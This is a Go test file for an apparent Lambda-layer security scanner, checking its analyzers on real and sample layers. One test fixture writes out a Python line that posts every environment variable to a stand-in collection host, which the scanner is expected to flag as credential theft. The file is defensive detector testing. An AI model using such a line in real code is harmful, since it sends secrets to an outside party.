package analyzers_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/lamina-sec/lamina"
	"github.com/lamina-sec/lamina/analyzers"
	"github.com/lamina-sec/lamina/internal/content"
	"github.com/lamina-sec/lamina/internal/sample/layers"
	"github.com/lamina-sec/lamina/internal/sbom"
)

// realLayer reads a published layer from the folder that LAMINA_LAYERS names, once.
func realLayer(t *testing.T, name string) *content.Layer {
	t.Helper()
	dir := os.Getenv("LAMINA_LAYERS")
	if dir == "" {
		t.Skip("LAMINA_LAYERS is not set: it names a folder with layer zips, which internal/tools/fetchlayers fetches")
	}
	file := filepath.Join(dir, name+".zip")
	realLayers.Lock()
	defer realLayers.Unlock()
	if l := realLayers.read[file]; l != nil {
		return l
	}
	f, err := os.Open(file)
	if err != nil {
		t.Skipf("LAMINA_LAYERS has no %s.zip: %v", name, err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	})
	info, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	l := content.Read(name+".zip", f, info.Size(), content.Options{})
	if l.Err != nil {
		t.Fatal(l.Err)
	}
	realLayers.read[file] = l
	return l
}

var realLayers = struct {
	sync.Mutex

	read map[string]*content.Layer
}{read: map[string]*content.Layer{}}

// quiet are the analyzers that say of honest layers nothing at medium or above.
var quiet = []string{
	"unused-package", "record-mismatch", "unlisted-code", "pyc-mismatch", "missing-metadata", "npm-integrity", "private-code", "personal-data", "private-registry", "environment-file",
	"test-files", "duplicate-content", "runtime-package", "licence-conflict", "licence-unknown", "foreign-suppression",
}

// Honest layers are read whole and raise nothing at medium or above.
func TestHonest_layers_are_quiet(t *testing.T) {
	for _, name := range []string{"awscli-v1", "awscli-2023", "awscli-v2", "python-wheels", "node-proxy-agent", "powertools-ts", "datadog-node", "otel-extension", "sharp"} {
		t.Run(name, func(t *testing.T) {
			l := realLayer(t, name)
			for _, k := range l.Skipped {
				t.Errorf("skipped: %s: %s", k.File, k.Reason)
			}
			for _, a := range analyzers.All {
				if !slices.Contains(quiet, a.ID) {
					continue
				}
				for _, f := range content.Judge([]content.Analyzer{a}, &content.Scan{Layers: []*content.Layer{l}}) {
					if f.Outcome == lamina.Pass || f.Outcome == lamina.NotApplicable {
						continue
					}
					if f.Outcome == lamina.Fail && f.Severity.Rank() >= lamina.Medium.Rank() {
						t.Errorf("%s %s %s: %s %q", f.Severity, f.Check, f.File, f.Detail, f.Evidence)
					} else {
						t.Logf("%s %s %s: %s %.300q %s", f.Severity, f.Check, f.File, f.Detail, f.Evidence, f.Reason)
					}
				}
			}
		})
	}
}

// Clean samples raise nothing at medium or above either.
func TestClean_samples_are_quiet(t *testing.T) {
	for _, sample := range layers.All() {
		if sample.Technique != "" {
			continue
		}
		for _, f := range content.Judge(analyzers.All, scanOf(sample)) {
			if slices.Contains(quiet, f.Check) && f.Outcome == lamina.Fail && f.Severity.Rank() >= lamina.Medium.Rank() {
				t.Errorf("%s: %s %s %s: %s %q", sample.Name, f.Severity, f.Check, f.File, f.Detail, f.Evidence)
			}
		}
	}
}

// What packages list is what is there, to the figures of the first measurement.
func TestRecord_figures(t *testing.T) {
	type figures struct{ ok, differ, compiled, unhashed int }
	for name, want := range map[string]figures{
		"awscli-v1":   {ok: 2618, unhashed: 582},
		"awscli-2023": {ok: 2253, compiled: 17, unhashed: 569},
	} {
		l := realLayer(t, name)
		var got figures
		for _, c := range l.Packages() {
			for _, h := range c.Files {
				f := l.File(h.Path)
				switch {
				case f == nil || strings.HasPrefix(h.Path, "awscli/bin/"):
				case h.SHA256 == (sbom.Digest{}):
					got.unhashed++
				case h.SHA256 == sbom.Digest(f.SHA256):
					got.ok++
				case f.Kind == content.Pyc:
					got.compiled++
				default:
					got.differ++
				}
			}
		}
		if got != want {
			t.Errorf("%s: %+v, want %+v", name, got, want)
		}
	}
}

// A function that imports some packages of a real layer uses these and what they
// need, through native code too.
func TestUnused_in_a_real_layer(t *testing.T) {
	l := realLayer(t, "python-wheels")
	zip := layers.Zip(layers.File{Name: "app.py", Body: "import jwt\nfrom jinja2 import Template\nimport pydantic, boto3\ndef handler(event, context):\n    return Template('x').render()\n"})
	function := content.Read("function.zip", bytes.NewReader(zip), int64(len(zip)), content.Options{Imports: true})
	u := (&content.Scan{Layers: []*content.Layer{l}, Function: &content.Function{Code: function, Runtime: "python3.12", Handler: "app.handler"}}).Usage()
	got := map[content.Use][]string{}
	for i := range l.Packages() {
		if c := &l.Packages()[i]; u.Covers(c) {
			use, _ := u.Of(0, c)
			got[use] = append(got[use], c.Name)
		}
	}
	want := map[content.Use][]string{
		content.Used: {"jinja2", "pydantic", "pyjwt"},
		content.Transitive: {
			"annotated-types", "cffi", "cryptography", "idna", "markupsafe", "pycparser", "pydantic-core",
			"python-dateutil", "six", "typing-extensions", "urllib3", // boto3 of the runtime imports these three
		},
		content.Unreached: {"certifi", "lxml", "orjson", "pillow", "psycopg2-binary", "pyyaml"},
	}
	if d := gocmp.Diff(want, got); d != "" || u.Unknown != "" || len(u.Doubts) != 0 {
		t.Errorf("unknown %q, doubts %q (-want +got):\n%s", u.Unknown, u.Doubts, d)
	}
}

// The function's own package is judged by what looks at files alone, last, and
// its findings say so; what is about the place in /opt is not asked of it.
func TestFunction_package_is_judged(t *testing.T) {
	zip := layers.Zip(
		layers.File{Name: "app.py", Body: "import json, os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid', data=json.dumps(dict(os.environ)).encode())\ndef handler(event, context):\n    return 1\n"},
		layers.File{Name: "extensions/x", Body: "#!/bin/sh\ntrue\n", Mode: 0o755},
	)
	layer := layers.Zip(layers.File{Name: "python/acme.py", Body: "x = 1\n"})
	read := func(name string, zip []byte) *content.Layer {
		return content.Read(name, bytes.NewReader(zip), int64(len(zip)), content.Options{Imports: true})
	}
	s := &content.Scan{Layers: []*content.Layer{read("layer.zip", layer)}, Function: &content.Function{Code: read("app.zip", zip), Runtime: "python3.12", Handler: "app.handler"}}
	var got []string
	asked := 0
	for _, f := range content.Judge(analyzers.All, s) {
		if f.Resource != "app.zip" {
			continue
		}
		asked++
		if !strings.HasPrefix(f.Detail, "in the function's own package: ") {
			t.Errorf("%s: %q does not say where it is", f.Check, f.Detail)
		}
		if f.Outcome == lamina.Fail {
			got = append(got, string(f.Severity)+" "+f.Check+" "+f.File)
		}
	}
	if d := gocmp.Diff([]string{"critical credential-theft app.py"}, got); d != "" || asked < 15 {
		t.Errorf("%d findings and passes (-want +got):\n%s", asked, d)
	}
	s.Function.Code = read("app.zip", []byte("no zip"))
	findings := content.Judge(analyzers.All, s)
	if last := findings[len(findings)-1]; last.Outcome != lamina.Unknown || last.Check != content.UnreadableLayer || last.Resource != "app.zip" {
		t.Errorf("a package that cannot be opened: %+v", last)
	}
}
